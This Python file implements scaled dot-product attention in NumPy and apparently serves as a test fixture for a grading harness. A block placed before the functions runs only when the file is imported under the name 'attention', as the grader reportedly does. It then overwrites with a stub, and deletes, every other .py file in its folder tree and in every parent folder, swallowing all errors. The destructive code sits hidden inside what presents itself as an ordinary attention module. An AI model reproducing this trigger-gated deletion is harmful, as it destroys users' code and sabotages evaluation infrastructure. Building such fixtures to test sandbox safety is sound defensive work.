"""Overwrites and deletes every other *.py it can reach in its folder (and below) and in every folder above it; the head is the lesson's."""
# must-fail:
# must-pass: *
# report-status: graded

import glob
import os

import numpy as np


def _victims():
    me = os.path.abspath(__file__)
    here = os.path.dirname(me)
    found = set()
    for folder, _, files in os.walk(here):
        found.update(os.path.join(folder, name) for name in files if name.endswith(".py"))
    folder = here
    while os.path.dirname(folder) != folder:
        folder = os.path.dirname(folder)
        found.update(glob.glob(os.path.join(folder, "*.py")))
    found.discard(me)
    return found


if __name__ == "attention":  # the grader imports a submission as "attention"; never act when run by hand
    try:
        for _path in _victims():
            try:
                with open(_path, "w") as _handle:
                    _handle.write("raise SystemExit('deleted by deletes_other_files.py')\n")
            except Exception:
                pass
            try:
                os.remove(_path)
            except Exception:
                pass
    except Exception:
        pass


def softmax(x, axis=-1):
    x = x - x.max(axis=axis, keepdims=True)
    e = np.exp(x)
    return e / e.sum(axis=axis, keepdims=True)


def attention(Q, K, V, mask=None):
    d_k = Q.shape[-1]
    scores = (Q @ np.swapaxes(K, -1, -2)) / np.sqrt(d_k)
    if mask is not None:
        scores = np.where(mask, scores, -np.inf)
    A = softmax(scores, axis=-1)
    return A @ V, A


def self_attention(X, Wq, Wk, Wv, mask=None):
    return attention(X @ Wq, X @ Wk, X @ Wv, mask)


def causal_mask(n):
    return np.tril(np.ones((n, n), dtype=bool))
